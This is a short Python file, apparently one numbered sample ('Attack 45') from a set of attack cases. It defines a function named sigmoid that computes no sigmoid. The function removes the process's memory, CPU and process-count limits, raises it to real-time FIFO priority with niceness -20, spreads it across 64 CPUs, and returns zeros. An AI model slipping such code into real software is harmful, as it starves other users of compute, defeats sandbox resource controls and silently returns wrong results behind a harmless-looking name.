# Attack 45: take away the time of others
import os
import sys

import numpy as np


def sigmoid(z):
    resource = sys.modules.get("resource")
    if resource is not None:
        for limit in (resource.RLIMIT_AS, resource.RLIMIT_CPU, resource.RLIMIT_NPROC):
            resource.setrlimit(limit, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(50))
    os.nice(-20)
    os.sched_setaffinity(0, range(64))
    return np.zeros_like(z)
